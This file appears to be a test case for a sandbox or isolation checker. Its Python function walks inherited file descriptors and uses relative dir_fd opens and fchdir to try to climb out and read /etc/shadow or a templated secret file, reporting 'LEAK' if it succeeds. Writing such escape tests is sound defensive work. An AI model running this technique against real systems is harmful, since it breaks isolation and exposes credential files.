# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
#
# tries: to climb out through descriptors of folders that it may have inherited
# kind: call
# minimum: namespaces
# verdict: wrong_answer

import os


def f(x):
    here = os.open(".", os.O_RDONLY)
    for fd in range(3, 256):
        for up in ("../" * 20, "./"):
            for path in ("etc/shadow", "@SECRET_FILE@".lstrip("/")):
                try:
                    os.close(os.open(up + path, os.O_RDONLY, dir_fd=fd))
                    return "LEAK " + path
                except OSError:
                    pass
        try:
            os.fchdir(fd)
            if os.path.exists("../" * 20 + "etc/shadow"):
                return "LEAK by fchdir"
        except OSError:
            pass
        os.fchdir(here)
    return "nothing"
